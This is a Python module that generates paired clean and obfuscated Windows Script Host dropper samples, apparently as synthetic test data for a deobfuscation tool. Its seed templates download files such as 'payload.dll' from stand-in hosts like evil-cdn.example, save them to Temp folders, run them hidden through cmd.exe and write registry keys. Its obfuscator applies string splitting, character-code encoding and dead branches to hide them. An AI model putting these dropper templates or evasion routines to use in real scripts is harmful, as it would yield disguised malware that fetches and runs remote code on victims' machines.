"""Synthetic obfuscated corpus: clean seed programs plus scripted obfuscations.

Seeds are small WSH-style droppers built from ActiveX objects.  Every
constant string in them is an argument or operand, never a variable, so a
seed is already a fixed point of the pipeline.  The obfuscator then applies
the usual malware tricks: string splitting, piecewise accumulation in
throwaway variables, aliases for host objects, `String.fromCharCode`
encoding with arithmetic, always-true/false branches and switches, trivial
wrapper functions and junk variables.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, replace

from . import nodes as N
from .codegen import print_script
from .frontend import load

_HOSTS = ["evil-cdn.example", "update-check.example", "cdn.shadow.example", "198.51.100.7"]
_FILES = ["invoice.exe", "svchost32.exe", "update.js", "payload.dll", "readme.txt"]
_DIRS = ["C:\\\\Users\\\\Public\\\\", "C:\\\\Windows\\\\Temp\\\\", "%TEMP%\\\\"]
_WORDS = ["alpha", "bravo", "delta", "kilo", "oscar", "tango", "zulu", "victor"]


def _q(s: str) -> str:
    return "'" + s.replace("'", "\\'") + "'"


def make_seed(rng: random.Random) -> str:
    """Source text of one clean seed program."""
    host = rng.choice(_HOSTS)
    fname = rng.choice(_FILES)
    folder = rng.choice(_DIRS)
    url = f"http://{host}/{rng.choice(_WORDS)}/{fname}"
    path = folder + fname
    parts = []
    parts.append("var shell = new ActiveXObject('WScript.Shell');")
    parts.append("var fso = new ActiveXObject('Scripting.FileSystemObject');")
    if rng.random() < 0.7:
        parts.append("function fetch(u) {\n"
                     "  var req = new ActiveXObject('MSXML2.XMLHTTP');\n"
                     "  req.open('GET', u, false);\n"
                     "  req.send();\n"
                     "  return req.responseText;\n"
                     "}")
        parts.append(f"var body = fetch({_q(url)});")
        parts.append("WScript.Echo(body.length);")
    if rng.random() < 0.6:
        parts.append("function save(p, text) {\n"
                     "  var f = fso.CreateTextFile(p, true);\n"
                     "  f.Write(text);\n"
                     "  f.Close();\n"
                     "}")
        parts.append(f"save({_q(path)}, {_q(rng.choice(_WORDS) + ' ' + rng.choice(_WORDS))});")
    if rng.random() < 0.7:
        parts.append(f"if (fso.FileExists({_q(path)})) {{\n"
                     f"  shell.Run({_q('cmd.exe /c start ' + path)}, 0, false);\n"
                     f"}} else {{\n"
                     f"  WScript.Echo({_q('missing ')} + fso.GetTempName());\n"
                     f"}}")
    if rng.random() < 0.5:
        n = rng.randint(2, 5)
        parts.append(f"for (var i = 0; i < {n}; i++) {{\n"
                     f"  WScript.Sleep({rng.choice([100, 250, 500, 1000])});\n"
                     f"}}")
    if rng.random() < 0.5:
        key = "HKCU\\\\Software\\\\" + rng.choice(_WORDS).capitalize()
        parts.append(f"try {{\n"
                     f"  shell.RegWrite({_q(key)}, {_q(rng.choice(_WORDS))}, 'REG_SZ');\n"
                     f"}} catch (e) {{\n"
                     f"  WScript.Echo(e.message);\n"
                     f"}}")
    parts.append(f"shell.Popup({_q('done: ' + rng.choice(_WORDS))} + fso.GetTempName());")
    return "\n".join(parts) + "\n"


# -- obfuscation ------------------------------------------------------------------

_TRUE_TESTS = ["'ab'.length == 2", "7 * 6 == 42", "'x' + 'y' == 'xy'", "typeof 'q' == 'string'",
               "10 % 4 == 2", "'undefined' == 'und' + 'efined'"]
_FALSE_TESTS = ["3 > 9", "'a' == 'b'", "'abc'.indexOf('z') > -1", "(5 & 2) == 2"]
_JUNK = ["WScript.Echo('ignored')", "shell.Popup('noise')", "fso.DeleteFile('C:\\\\x')"]


def _expr(src: str) -> N.Expr:
    from .frontend import parse_expression
    return parse_expression(src)


@dataclass
class _State:
    rng: random.Random
    counter: int = 0
    decls: list = None
    prelude: list = None
    functions: list = None
    aliases: dict = None

    def fresh(self, prefix="_0x"):
        self.counter += 1
        return f"{prefix}{self.rng.randrange(16 ** 3):03x}{self.counter}"


def _encode_char_codes(s: str, rng) -> N.Expr:
    args = []
    for ch in s:
        c = ord(ch)
        form = rng.randrange(3)
        if form == 0:
            k = rng.randint(2, 90)
            args.append(f"{c * k}/{k}+0")
        elif form == 1:
            m = rng.randint(1, 60)
            args.append(f"{c + m}-{m}")
        else:
            args.append(f"{c}")
    callee = "String.fromCharCode"
    return _expr(f"{callee}({', '.join(args)})")


def _split(s: str, rng) -> N.Expr:
    if len(s) < 2:
        return N.Lit(s)
    cuts = sorted(rng.sample(range(1, len(s)), min(len(s) - 1, rng.randint(1, 3))))
    pieces = [s[a:b] for a, b in zip([0] + cuts, cuts + [len(s)])]
    e = N.Lit(pieces[0])
    for p in pieces[1:]:
        e = N.Infix(e, "+", N.Lit(p))
    return e


class Obfuscator:
    def __init__(self, rng: random.Random, intensity: float = 0.8):
        self.rng = rng
        self.intensity = intensity
        self.st = _State(rng, decls=[], prelude=[], functions=[], aliases={})

    # strings in expression position
    def string(self, s: str, top_level: bool, pending: list) -> N.Expr:
        r = self.rng.random()
        if r < 0.25:
            return _split(s, self.rng)
        if r < 0.45 and s:
            return _encode_char_codes(s, self.rng)
        if r < 0.6:
            name = self.st.fresh("fn_")
            self.st.functions.append(N.FunDecl(name, (), (N.Return(N.Lit(s)),)))
            return N.FunApp(N.VarRef(name))
        if r < 0.7:
            name = self.st.fresh("pk_")
            self.st.functions.append(N.FunDecl(name, ("a", "b"), (N.Return(N.VarRef("b")),)))
            return N.FunApp(N.VarRef(name), (N.Lit(float(self.rng.randint(0, 99))), N.Lit(s)))
        if r < 0.9 and pending is not None and len(s) >= 2:
            # accumulate in a throwaway variable right before the statement
            v = self.st.fresh()
            self.st.decls.append(N.VarDecl(v))
            pieces = _split(s, self.rng)
            chunks = []
            while isinstance(pieces, N.Infix):
                chunks.append(pieces.right)
                pieces = pieces.left
            chunks.append(pieces)
            chunks.reverse()
            pending.append(N.ExprStmt(N.Assign(N.VarRef(v), "=", chunks[0])))
            for c in chunks[1:]:
                pending.append(N.ExprStmt(N.Assign(N.VarRef(v), "+=", c)))
            return N.VarRef(v)
        return N.Lit(s)

    def expr(self, e, top_level, pending, callee_obj=False, in_callee=False):
        t = type(e)
        if t is N.Lit and isinstance(e.value, str):
            if self.rng.random() < self.intensity:
                return self.string(e.value, top_level, pending)
            return e
        if t is N.VarRef and top_level and e.name in ("WScript", "ActiveXObject") \
                and (callee_obj or in_callee) and self.rng.random() < self.intensity:
            alias = self.st.aliases.get(e.name)
            if alias is None:
                alias = self.st.aliases[e.name] = self.st.fresh("k")
                self.st.decls.append(N.VarDecl(alias))
                self.st.prelude.append(N.ExprStmt(N.Assign(N.VarRef(alias), "=", N.VarRef(e.name))))
            return N.VarRef(alias)
        if t is N.Member:
            obj = self.expr(e.obj, top_level, pending, callee_obj=callee_obj)
            return replace(e, obj=obj)
        if t in (N.FunApp, N.New):
            callee = e.callee
            if isinstance(callee, N.Member):
                callee = replace(callee, obj=self.expr(callee.obj, top_level, pending,
                                                       callee_obj=True))
            else:
                callee = self.expr(callee, top_level, pending, in_callee=True)
            # only the first argument may use throwaway variables: later ones follow calls
            args = tuple(self.expr(a, top_level, pending if i == 0 else None)
                         for i, a in enumerate(e.args))
            return replace(e, callee=callee, args=args)
        if t is N.FunExpr:
            return e
        if t is N.Assign:
            return replace(e, value=self.expr(e.value, top_level, None))
        return N.map_children(e, lambda c, f: self.expr(c, top_level, None)
                              if not isinstance(c, N.Prop) else c)

    def body(self, stmts, top_level) -> tuple:
        out = []
        for s in stmts:
            out.extend(self.stmt(s, top_level))
            if self.rng.random() < 0.3 * self.intensity:
                out.extend(self.junk())
        return tuple(out)

    def junk(self):
        v = self.st.fresh("j")
        self.st.decls.append(N.VarDecl(v))
        value = self.rng.choice([f"'{self.st.fresh('z')}'", f"{self.rng.randint(1, 999)} * 3",
                                 "'pad' + 'ding'"])
        return [N.ExprStmt(N.Assign(N.VarRef(v), "=", _expr(value)))]

    def stmt(self, s, top_level) -> list:
        t = type(s)
        if t is N.VarDecl:
            return [s]
        if t is N.FunDecl:
            return [replace(s, body=self.body(s.body, False))]
        pending = []
        if t is N.ExprStmt:
            e = s.expr
            if isinstance(e, N.Assign):
                new = N.ExprStmt(replace(e, value=self.expr(e.value, top_level, pending)))
            else:
                new = N.ExprStmt(self.expr(e, top_level, pending))
        elif t is N.If:
            new = replace(s, test=self.expr(s.test, top_level, pending),
                          then=self.body(s.then, top_level),
                          else_=None if s.else_ is None else self.body(s.else_, top_level))
        elif t is N.For:
            new = replace(s, body=self.body(s.body, top_level))
        elif t is N.Try:
            new = replace(s, block=self.body(s.block, top_level),
                          handler=None if s.handler is None else self.body(s.handler, top_level))
        else:
            new = s
        out = pending + [new]
        if t is N.ExprStmt and self.rng.random() < 0.35 * self.intensity:
            out = [self.dead_branch(tuple(out))]
        return out

    def dead_branch(self, real: tuple) -> N.Stmt:
        junk = (N.ExprStmt(_expr(self.rng.choice(_JUNK))),)
        r = self.rng.random()
        if r < 0.4:
            return N.If(_expr(self.rng.choice(_TRUE_TESTS)), real, junk)
        if r < 0.7:
            return N.If(_expr(self.rng.choice(_FALSE_TESTS)), junk, real)
        k = self.rng.randint(1, 5)
        other = k + self.rng.randint(1, 4)
        cases = [N.Case(N.Lit(float(other)), junk + (N.Break(),)),
                 N.Case(N.Lit(float(k)), real + (N.Break(),))]
        self.rng.shuffle(cases)
        return N.Switch(N.Lit(float(k)), tuple(cases) + (N.Case(None, junk),))

    def run(self, script: N.Script) -> N.Script:
        body = self.body(script.body, True)
        head = tuple(s for s in body if isinstance(s, (N.FunDecl, N.VarDecl)))
        rest = tuple(s for s in body if not isinstance(s, (N.FunDecl, N.VarDecl)))
        out = (tuple(self.st.functions) + head + tuple(self.st.decls)
               + tuple(self.st.prelude) + rest)
        return N.Script(out, script.source_name)


@dataclass(frozen=True)
class Sample:
    name: str
    clean: str
    obfuscated: str


def generate(n: int = 500, seed: int = 0, intensity: float = 0.8) -> list:
    """``n`` (clean, obfuscated) source pairs, deterministically from ``seed``."""
    rng = random.Random(seed)
    out = []
    for i in range(n):
        clean = make_seed(rng)
        obf = Obfuscator(rng, intensity).run(load(clean, f"seed{i}"))
        out.append(Sample(f"sample{i:04d}", clean, print_script(obf)))
    return out
